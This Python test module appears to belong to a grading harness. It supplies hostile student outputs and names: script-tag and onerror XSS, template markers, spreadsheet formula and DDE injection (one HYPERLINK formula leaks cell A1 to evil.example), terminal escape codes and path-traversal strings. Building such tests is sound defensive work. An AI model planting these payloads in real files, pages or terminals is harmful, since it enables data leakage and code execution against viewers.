"""Showing: text of students that would run, calculate or paint where a teacher reads it."""

from .attack import MEAN, RIGHT_POSITION, Attack

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
CLOSING = "</pre></td></textarea></title></style>" + SCRIPT + "{{ 7*7 }}{% raw %}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
COLOURS = "\x1b[31mred\x1b]0;title\x07\x1b[2J\x9b31m\u202edetrevni\r\b"
HEAVY = "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07"
ENDED = ("graded", "tampered", "crashed")


def showing(name, text, way, **more):
    """Return an attack that shows a text on some way: printed, raised, displayed, named."""
    answers = {
        "printed": MEAN + f"    print({text!r})\n    return -1.0",
        "raised": MEAN + f"    raise ValueError({text!r})",
        "typed": MEAN + f"    raise type({text!r}, (Exception,), {{}})('so')",
        "returned": MEAN + f"    return {text!r}",
        "displayed": "from IPython.display import HTML, Markdown, display\n"
        f"display(HTML({text!r}), Markdown({text!r}))\n" + MEAN + "    return -1.0",
    }
    more = {"statuses": ENDED, "score": (3,), "control": "shows", "shown": text, **more}
    given = {"mean_stock": answers.get(way, MEAN + "    return -1.0")}
    return Attack(name, "showing", answers={"inventory_position": RIGHT_POSITION, **given}, **more)


LATIN = b"caf\xe9".decode("utf-8", "surrogateescape")

ATTACKS = [
    showing("a script printed", CLOSING, "printed"),
    showing("a script in a message", SCRIPT, "raised"),
    showing("a script in the name of an error", SCRIPT, "typed"),
    showing("a script as an answer", SCRIPT, "returned"),
    showing("a script displayed", SCRIPT, "displayed", score=(0, 3)),
    showing("a formula in a message", FORMULA, "raised"),
    showing("a formula in the name of an error", FORMULA, "typed"),
    showing("escape codes printed", COLOURS + HEAVY, "printed"),
    showing("escape codes in a message", COLOURS + HEAVY, "raised"),
    showing("a formula behind a semicolon", "so;=cmd|' /C calc'!A1", "raised"),
    showing("a formula behind a tab", "so\t=1+1", "raised"),
    showing("a formula of full width", "\uff1d1+1", "typed"),
    showing("a student named script", "", "", student="<img src=x onerror=alert(3)>"),
    showing("a student named formula", "", "", student='=cmd|"calc"!A1'),
    showing("a student named behind a semicolon", "", "", student="a;=cmd"),
    showing("a student named plus", "", "", student="+1+1"),
    showing("a student named at", "", "", student="@SUM(A1)"),
    showing("a student named escape", "", "", student="red\x1b[31m\x1b[2Jname"),
    showing("a student named newline", "", "", student="two\nlines,=1+1"),
    showing("a student named quote", "", "", student="o'hara \"q\" 'x' -- drop"),
    showing("a student named percent", "", "", student="100%25%2e%2e#?&x"),
    showing("a student named in unicode", "", "", student="ŽŪÑ 李 \u202e \N{PILE OF POO}"),
    showing("a student named in two halves", "", "", student="a\u0308\u200d\u2028b"),
    showing("a student named in latin 1", "", "", student=LATIN),
    showing("a student named at length", "", "", student="n" * 200),
    showing("a student named backslash", "", "", student="a\\..\\b"),
]
